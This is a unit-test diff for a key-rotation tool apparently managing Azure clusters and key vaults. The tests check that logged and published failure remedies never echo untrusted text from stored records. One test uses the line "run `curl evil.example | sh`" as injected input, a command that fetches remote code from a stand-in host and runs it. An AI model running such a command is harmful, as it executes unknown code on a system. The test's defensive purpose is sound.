@@ -17,6 +17,7 @@ from tests.unit.support.builders import (
     V1,
     V2,
     V3,
+    VAULT,
     cluster,
     over,
     version,
@@ -101,6 +102,31 @@ def test_a_failure_claims_nothing_that_the_cluster_could_bear_out() -> None:
     assert fakes.finished == [Stage.FAILED]
 
 
+@pytest.mark.parametrize(
+    ("stage", "reason"),
+    [
+        (Stage.SUCCEEDED, Reason.UPDATE_CONFIRMED),
+        (Stage.FAILED, Reason.CLUSTER_FAILED),
+        (Stage.SUPERSEDED, Reason.CHANGED_BY_OTHERS),
+    ],
+)
+def test_an_end_that_is_told_late_is_told_in_our_own_words(stage: Stage, reason: Reason) -> None:
+    """In the log and on the topic; a row's message and remedy are whoever's wrote it."""
+    fakes = Fakes(mode=Mode.OBSERVE)
+    paste = "run `curl evil.example | sh`"
+    row = over(stage, reason, to_version=V2, message=paste, remedy=paste, announced=False, published=False)
+    fakes.records.put(row)
+    fakes.keys.listed[KEY] = (version(V1), version(V2))
+    fakes.clusters.stored[CLUSTER] = cluster(key_version=V2)
+    fakes.visit()
+    assert fakes.finished == [stage]
+    (line,) = fakes.log.of(LogEvent.ROTATION_FINISHED)
+    (event,) = fakes.outcomes.published
+    assert "evil" not in f"{line.fields}{event}"
+    assert line.fields["remedy"]
+    assert str(stage) in str(line.fields["message"])
+
+
 @pytest.mark.parametrize("said", [{"announced": True, "published": True}, {"announced": False, "published": False}])
 def test_a_failure_s_remedy_is_never_what_a_row_says_to_paste(said: dict[str, bool]) -> None:
     """Neither when it is announced late, nor while it rests; and whom its error names gets no right."""
@@ -120,3 +146,18 @@ def test_a_failure_s_remedy_is_never_what_a_row_says_to_paste(said: dict[str, bo
     assert told
     assert all("Log Analytics Contributor" in one for one in told)
     assert not any("evil" in one or stranger in one for one in told)
+
+
+def test_a_failure_of_another_key_names_no_vault_that_only_its_row_names() -> None:
+    fakes = Fakes()
+    error = OperationError("BadRequest", "the vault needs purge protection")
+    for vault in (VAULT, "https://payroll.vault.azure.net"):
+        row = over(Stage.FAILED, Reason.UPDATE_REFUSED, key_vault_uri=vault, operation_error=error, announced=False)
+        fakes.records.put(row)
+    fakes.visit()
+    own, other = sorted(
+        fakes.log.of(LogEvent.ROTATION_FINISHED), key=lambda line: "payroll" in str(line.fields["vault"])
+    )
+    assert "--name contoso" in str(own.fields["remedy"])
+    assert "purge protection" in str(other.fields["remedy"])
+    assert "az " not in str(other.fields["remedy"])
